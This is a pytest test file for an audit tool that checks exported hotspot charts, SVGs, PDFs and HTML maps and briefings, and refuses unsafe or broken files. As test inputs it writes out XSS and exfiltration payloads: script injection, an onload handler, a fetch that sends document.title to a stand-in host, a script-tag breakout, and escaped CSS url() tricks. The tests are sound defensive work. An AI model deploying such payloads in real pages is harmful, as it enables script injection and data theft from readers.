"""The audit of charts, maps and briefings, on small folders built by hand: it fails closed."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from exports.audit import audit_folder
from tests.unit.test_audit import HOTSPOT_HEADER, HOTSPOTS, POLICY, write_csv, write_manifest

MAP_JS = (Path(__file__).parents[2] / "exports" / "static" / "istv-map.js").read_text()
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>'


def tiny_pdf() -> bytes:
    """A one-page PDF as reportlab writes it, with nothing on the page."""
    from reportlab.pdfgen.canvas import Canvas

    out = io.BytesIO()
    canvas = Canvas(out, invariant=1)
    canvas.showPage()
    canvas.save()
    return out.getvalue()


PDF = tiny_pdf()


def feature(**properties) -> dict:
    return {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [-3.18, 51.48]},
        "properties": properties,
    }


def map_page(hotspots: list[dict], background: list[dict] | None = None, config=None) -> str:
    def block(name: str, value: object) -> str:
        return f'<script type="application/json" id="{name}">{json.dumps(value)}</script>'

    collection = {"type": "FeatureCollection", "features": [feature(**p) for p in hotspots]}
    ground = {"type": "FeatureCollection", "features": [feature(**p) for p in background or []]}
    return (
        '<!DOCTYPE html><html><head><meta charset="utf-8">'
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">'
        "<style>.x { color: red; }</style></head><body><div id=map></div>"
        + block("istv-hotspots", collection)
        + block("istv-background", ground)
        + block("istv-map-config", config or {"title": "t", "legend": [10, 20]})
        + f"<script>{MAP_JS}</script></body></html>"
    )


GOOD_HOTSPOT = {
    "rank": "1",
    "place_name": "Market Street",
    "location_class": "street",
    "assaults": "25",
    "previous_assaults": "15",
    "change": "10",
}


def bundle(folder: Path, visuals: dict[str, tuple[bytes, dict]]) -> Path:
    """A hotspots CSV plus the given visual files; entries default to kind chart from hotspots."""
    folder.mkdir(parents=True, exist_ok=True)
    write_csv(folder / "hotspots.csv", HOTSPOT_HEADER, HOTSPOTS)
    entries = [{"path": "hotspots.csv", "format": "csv", "product": "hotspots", "rows": 3}]
    for name, (data, entry) in visuals.items():
        (folder / name).write_bytes(data)
        fmt = name.rsplit(".", 1)[1]
        entries.append(
            {"path": name, "format": fmt, "kind": "chart", "sources": ["hotspots"], **entry}
        )
    write_manifest(folder, entries)
    return folder


def problems(folder: Path) -> list[str]:
    return [str(o) for o in audit_folder(folder, POLICY)]


def test_clean_visuals_pass(tmp_path):
    page = map_page([GOOD_HOTSPOT], [{"name": "High Street"}]).encode()
    folder = bundle(
        tmp_path,
        {
            "chart.png": (PNG, {}),
            "chart.svg": (SVG, {}),
            "briefing.pdf": (PDF, {"kind": "briefing"}),
            "map.html": (page, {"kind": "map"}),
        },
    )
    assert problems(folder) == []


@pytest.mark.parametrize(
    ("name", "data", "entry", "expected"),
    [
        ("chart.png", PNG, {"sources": []}, "names no source tables"),
        ("chart.png", PNG, {"sources": ["demographics"]}, "not a table of this bundle"),
        ("chart.png", PNG, {"sources": ["no_such_product"]}, "not a table of this bundle"),
        ("chart.png", PNG, {"kind": "poster"}, "not one of"),
        ("chart.png", b"GIF89a" + PNG, {}, "not a PNG file"),
        ("briefing.pdf", PDF[:-8], {}, "truncated"),
        ("chart.svg", SVG.replace(b"<rect", b"<script>alert(1)</script><rect"), {}, "script"),
        (
            "chart.svg",
            SVG.replace(b"<rect", b'<image href="https://x.example/p.png"/><rect'),
            {},
            "outside the file",
        ),
        ("chart.svg", b"<svg", {}, "cannot read as svg"),
        ("chart.gif", PNG, {"format": "gif"}, "unknown format"),
    ],
)
def test_broken_visual_files_and_entries_fail(tmp_path, name, data, entry, expected):
    found = problems(bundle(tmp_path, {name: (data, entry)}))
    assert any(expected in p for p in found), found


@pytest.mark.parametrize(
    ("hotspots", "background", "config", "expected"),
    [
        ([{**GOOD_HOTSPOT, "assaults": "3"}], [], None, "must be shown as"),
        ([{**GOOD_HOTSPOT, "location_class": "private_dwelling"}], [], None, "has a place_name"),
        ([{**GOOD_HOTSPOT, "note": "x"}], [], None, "not part of product"),
        ([GOOD_HOTSPOT], [{"name": "High St", "assaults": "5"}], None, "names and codes only"),
        ([GOOD_HOTSPOT], [], {"legend": [3]}, "legend"),
        ([GOOD_HOTSPOT], [], {"title": "t", "rows": []}, "not a map setting"),
    ],
)
def test_the_maps_embedded_data_is_checked_like_published_geojson(
    tmp_path, hotspots, background, config, expected
):
    page = map_page(hotspots, background, config).encode()
    found = problems(bundle(tmp_path, {"map.html": (page, {"kind": "map"})}))
    assert any(expected in p for p in found), found


def test_an_unknown_data_block_or_an_external_script_in_a_map_fails(tmp_path):
    page = map_page([GOOD_HOTSPOT]).replace(
        "</body>",
        '<script type="application/json" id="rows">[]</script>'
        '<script src="https://cdn.example/leaflet.js"></script></body>',
    )
    found = problems(bundle(tmp_path, {"map.html": (page.encode(), {"kind": "map"})}))
    assert any("unknown embedded data block" in p for p in found)
    assert any("src refers outside the file" in p for p in found)


def briefing_page(body: str) -> bytes:
    return (
        '<!DOCTYPE html><html><head><meta charset="utf-8"><style>p { color: #000; }</style>'
        f"</head><body>{body}</body></html>"
    ).encode()


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ('<p><span data-count="25" data-product="hotspots">25</span></p>', None),  # clean
        ('<table><tr><td data-count="3" data-product="hotspots">3<td>x</table>', "never closes"),
        ('<img data-count="3" data-product="hotspots" src="data:,">', "must be element text"),
        ('<span data-count="35" data-product="hotspots">35</span>', "not a count hotspots"),
        ('<a xlink:href="https://x.example/">x</a>', "refers outside"),
        ('<a ping="https://x.example/">x</a>', "refers outside"),
        ('<table background="https://x.example/t.png"></table>', "refers outside"),
        ('<p style="background: url(track.png)">x</p>', "CSS refers outside"),
        ('<p style="background: u\\72l(https://x.example/t.png)">x</p>', "CSS refers outside"),
        ("<p style=\"background: image-set('https://x.example/a.png' 1x)\">x</p>", "CSS"),
        ('<script>fetch("https://x.example/?" + document.title)</script>', "not a shipped script"),
        ('<script type="text/plain">x</script>', "not a shipped script"),
        ('<script type="application/json; charset=utf-8">{}</script>', "not a shipped script"),
        (
            '<script type="application/json" id="istv-background">{"name": "</script>'
            '<script>fetch(1)</script>"}</script>',
            "cannot read",
        ),
        ('<script type="application/json" id="istv-hotspots">{"type": ', "never closes"),
        ("<svg><image href='https://x.example/a.png'/></svg>", "not allowed"),
    ],
)
def test_a_briefing_page_is_refused_for_anything_it_cannot_show_safe(tmp_path, body, expected):
    folder = bundle(tmp_path, {"briefing.html": (briefing_page(body), {"kind": "briefing"})})
    found = problems(folder)
    if expected is None:
        assert found == []
    else:
        assert any(expected in p for p in found), found


@pytest.mark.parametrize(
    ("svg", "expected"),
    [
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(1)"/>', "event handler"),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://x.example/a.css";'
            b"</style></svg>",
            "CSS refers outside",
        ),  # fmt: skip
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(https://x.example/p)"'
            b"/></svg>",
            "CSS refers outside",
        ),  # fmt: skip
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" '
            b'to="https://x.example/"/></a></svg>',
            "animation",
        ),  # fmt: skip
    ],
)
def test_an_svg_that_could_run_or_fetch_is_refused(tmp_path, svg, expected):
    found = problems(bundle(tmp_path, {"chart.svg": (svg, {})}))
    assert any(expected in p for p in found), found


def test_a_map_point_must_have_a_class_and_a_point_geometry(tmp_path):
    no_class = {k: v for k, v in GOOD_HOTSPOT.items() if k != "location_class"}
    page = map_page([no_class])
    found = problems(bundle(tmp_path / "a", {"map.html": (page.encode(), {"kind": "map"})}))
    assert any("a point with no class" in p for p in found), found
    line = map_page([GOOD_HOTSPOT]).replace('"type": "Point"', '"type": "LineString"')
    found = problems(bundle(tmp_path / "b", {"map.html": (line.encode(), {"kind": "map"})}))
    assert any("not a point" in p for p in found), found
